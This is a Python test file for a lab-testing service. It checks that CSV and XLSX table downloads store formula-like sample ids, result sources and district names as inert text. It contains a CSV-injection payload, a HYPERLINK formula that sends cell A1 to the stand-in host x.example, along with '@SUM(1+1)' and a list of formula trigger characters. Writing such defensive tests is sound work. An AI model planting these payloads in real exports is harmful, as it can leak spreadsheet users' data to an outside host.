"""The service's CSV and XLSX downloads hold a lab's or a province's text as text: a sample id,
a results source or a district name that a spreadsheet would run as a formula is neutralised in
CSV (a leading apostrophe) and a string cell in XLSX, on both databases."""

from __future__ import annotations

import csv
import io

import openpyxl

from tests.service.conftest import wait_done
from tests.service.test_api import tiny_json
from tests.service.test_batches import START

LINK = '=HYPERLINK("http://x.example/?"&A1,"Click")'
TRIGGERS = ("=", "+", "-", "@", "\t", "\r")


def csv_cells(resp) -> list[str]:
    assert resp.status_code == 200, resp.text
    return [cell for row in csv.reader(io.StringIO(resp.text)) for cell in row]


def xlsx_cells(resp) -> list:
    assert resp.status_code == 200, resp.text
    book = openpyxl.load_workbook(io.BytesIO(resp.content))
    return [cell for ws in book.worksheets for row in ws.iter_rows() for cell in row]


def assert_inert(csv_resp, xlsx_resp, text: str) -> None:
    cells = csv_cells(csv_resp)
    assert "'" + text in cells and text not in cells
    assert [c for c in cells if c[:1] in TRIGGERS] == []
    book = xlsx_cells(xlsx_resp)
    assert [c.coordinate for c in book if c.data_type == "f"] == []
    kinds = [c.data_type for c in book if c.value == text]
    assert kinds and set(kinds) == {"s"}


def test_batch_tables_hold_a_hostile_sample_id_as_text(service):
    c = service.client
    coord = service.key("coordinator", "tiny")
    lab = service.key("lab", "tiny/cdc")
    sid = c.post("/v1/scenarios", headers=coord, json=tiny_json()).json()["id"]
    ids = [LINK] + [f"S{i:03d}" for i in range(29)]
    r = c.post(
        "/v1/batches",
        headers=lab,
        json={
            "scenario_id": sid,
            "lab": "cdc",
            "label": "B1",
            "date": str(START),
            "algorithm": "D2",
            "config": "5",
            "samples": [{"sample_id": s, "district": "a", "stream": "screening"} for s in ids],
        },
    )
    assert r.status_code == 201, r.text
    bid = r.json()["id"]
    url = f"/v1/batches/{bid}/tables"
    assert_inert(
        c.get(f"{url}/manifest", headers=lab), c.get(f"{url}/manifest.xlsx", headers=lab), LINK
    )
    wells = list(csv.DictReader(io.StringIO(c.get(f"{url}/results_template", headers=lab).text)))
    assert wells
    results = [
        {
            "plate": w["plate"],
            "well": w["well"],
            "result": "positive" if w["content"] == "positive_control" else "negative",
        }
        for w in wells
    ]
    ok = c.post(
        f"/v1/batches/{bid}/results", headers=lab, json={"results": results, "source": "@SUM(1+1)"}
    )
    assert ok.status_code == 200, ok.text
    assert_inert(
        c.get(f"{url}/results_log", headers=lab),
        c.get(f"{url}/results_log.xlsx", headers=lab),
        "@SUM(1+1)",
    )
    # the stored manifest reads back as the ids that went in
    statuses = list(csv.DictReader(io.StringIO(c.get(f"{url}/statuses", headers=lab).text)))
    assert sorted(s["sample_id"] for s in statuses) == sorted(
        "'" + LINK if s == LINK else s for s in ids
    )
    assert {s["status"] for s in statuses} == {"negative"}


def test_plan_tables_hold_a_hostile_district_name_as_text(service):
    c = service.client
    coord = service.key("coordinator", "tiny")
    data = tiny_json()
    data["districts"][0]["name"] = LINK
    r = c.post("/v1/scenarios", headers=coord, json=data)
    assert r.status_code == 201, r.text
    sid = r.json()["id"]
    plan = c.post("/v1/plans", headers=coord, json={"scenario_id": sid, "days": 2})
    assert plan.status_code == 202, plan.text
    assert wait_done(c, plan.json()["id"], coord)["status"] == "done"
    url = f"/v1/plans/{plan.json()['id']}/tables"
    assert_inert(
        c.get(f"{url}/allocations", headers=coord),
        c.get(f"{url}/allocations.xlsx", headers=coord),
        LINK,
    )
